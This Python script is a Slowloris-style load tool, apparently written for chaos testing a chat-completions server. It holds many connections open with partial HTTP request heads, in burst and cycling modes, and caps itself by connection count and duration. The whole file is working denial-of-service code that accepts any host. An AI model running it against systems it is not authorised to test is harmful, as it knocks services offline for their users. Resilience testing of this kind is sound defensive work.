#!/usr/bin/env python3
"""Slowloris attacker for the chaos tests: connections that send a partial HTTP request head and
then nothing. --burst N opens N at once and keeps them open; --sustained M keeps M connections
cycling (each lives --life seconds, is closed and reopened) for --seconds. Bounded in count and
time. Prints a JSON summary: connects, heads sent, connect failures."""
import argparse
import json
import random
import resource
import selectors
import socket
import sys
import time

HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: kvsteer\r\nContent-Type: application/json\r\nContent-Le"


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--burst", type=int, default=0, help="connections opened at once and held")
    ap.add_argument("--hold", type=float, default=2.0, help="seconds the burst is held before the sustained phase")
    ap.add_argument("--sustained", type=int, default=0, help="connections kept cycling")
    ap.add_argument("--life", type=float, default=1.0, help="seconds a sustained connection lives")
    ap.add_argument("--seconds", type=float, default=10.0, help="length of the sustained phase")
    a = ap.parse_args()
    if a.burst + a.sustained > 60000 or a.seconds > 120:
        sys.exit("refusing: at most 60000 connections and 120 s")
    need = a.burst + a.sustained + 256
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(need, soft), hard), hard))

    sel = selectors.DefaultSelector()
    stats = {"connects": 0, "heads": 0, "connect_errors": 0}
    born = {}

    def open_one():
        s = socket.socket(socket.AF_INET6 if ":" in a.host else socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((a.host, a.port))
        except BlockingIOError:
            pass
        except OSError:
            stats["connect_errors"] += 1
            s.close()
            return None
        sel.register(s, selectors.EVENT_WRITE)
        born[s] = time.monotonic() + random.uniform(0, a.life)
        stats["connects"] += 1
        return s

    def close_one(s):
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        born.pop(s, None)
        s.close()

    def pump(timeout):
        for key, _ in sel.select(timeout):
            s = key.fileobj
            if key.events & selectors.EVENT_READ:  # reset or closed by the far end
                close_one(s)
                continue
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                stats["connect_errors"] += 1
                close_one(s)
                continue
            try:
                s.send(HEAD)
                stats["heads"] += 1
            except OSError:
                pass
            sel.modify(s, selectors.EVENT_READ)  # nothing more is sent; reads only see a reset

    held = [s for s in (open_one() for _ in range(a.burst)) if s]
    end = time.monotonic() + a.hold
    while time.monotonic() < end:
        pump(0.05)
    cycling = [s for s in (open_one() for _ in range(a.sustained)) if s]
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        pump(0.02)
        now = time.monotonic()
        for i, s in enumerate(cycling):
            if s is None or born.get(s, 0) + a.life <= now:
                if s is not None:
                    close_one(s)
                cycling[i] = open_one()
    for s in held + [c for c in cycling if c]:
        close_one(s)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
